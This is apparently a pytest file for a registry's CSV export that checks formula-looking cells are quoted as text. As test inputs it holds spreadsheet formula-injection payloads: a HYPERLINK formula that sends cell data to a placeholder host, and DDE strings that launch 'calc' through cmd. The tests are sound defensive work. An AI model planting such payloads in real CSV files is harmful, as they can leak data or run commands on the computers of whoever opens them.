"""No CSV the registry writes starts a spreadsheet formula (docs/guarantees.md, edges-5)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from registry.cli.import_state import ImportState, error_data
from registry.compliance.export import safe_cell, to_csv
from registry.records.bulk import RowError

FORMULAS = {
    "equals": '=HYPERLINK("http://x.example/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}


@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS.keys())
def test_a_formula_cell_is_written_as_text(text: str) -> None:
    rows = [{"instansi": text, "nested": {"name": text}, "overdue": {"value": 1, "entries": [2]}}]
    parsed = list(csv.DictReader(io.StringIO(to_csv(rows), newline="")))
    assert parsed[0]["instansi"] == "'" + text
    assert parsed[0]["nested.name"] == "'" + text
    assert parsed[0]["overdue"] == "1"


@pytest.mark.parametrize(
    "value", ["Pemerintah Provinsi Jawa Barat", "a=b", "", "'=already quoted", -3, 0, 2.5, None]
)
def test_other_cells_are_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def test_the_import_report_quotes_the_file_s_own_words(tmp_path: Path) -> None:
    report = tmp_path / "report.csv"
    state = ImportState(tmp_path / "rows.csv.import-state", {"sha256": "00"})
    state.open()
    state.add(0, {"rows": 1, "errors": [error_data(RowError(1, "=1+1", "-bad value @x"))]})
    state.write_report(report, "en")
    with report.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1][1] == "'=1+1"
    assert rows[1][3] == "'-bad value @x"
